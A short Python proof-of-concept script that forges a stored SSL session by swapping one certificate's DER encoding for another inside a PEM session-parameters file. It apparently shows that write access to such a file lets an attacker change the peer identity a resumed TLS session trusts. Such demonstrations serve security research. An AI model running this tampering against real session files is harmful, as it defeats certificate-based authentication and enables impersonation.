"""Replace one certificate by another in a session's PEM file, as anyone who can write to that file could.

usage: forge.py SESSION OLD-CERTIFICATE NEW-CERTIFICATE
"""

import base64
import ssl
import sys

BEGIN, END = "-----BEGIN SSL SESSION PARAMETERS-----\n", "-----END SSL SESSION PARAMETERS-----\n"


def certificate(path):
    with open(path, encoding="ascii") as file:
        return ssl.PEM_cert_to_DER_cert(file.read())


def field(tag, content):
    """DER with a length of two bytes, which fits everything here."""
    return bytes([tag, 0x82]) + len(content).to_bytes(2, "big") + content


def main():
    session, old, new = sys.argv[1], field(0xA3, certificate(sys.argv[2])), field(0xA3, certificate(sys.argv[3]))
    with open(session, encoding="ascii") as file:
        der = base64.b64decode(file.read().split(BEGIN)[1].split(END)[0])
    if old not in der or der[:2] != b"\x30\x82":
        sys.exit("the session does not have the certificate")
    der = field(0x30, der[4:].replace(old, new))
    with open(session, "w", encoding="ascii") as file:
        file.write(BEGIN + base64.encodebytes(der).decode() + END)


main()
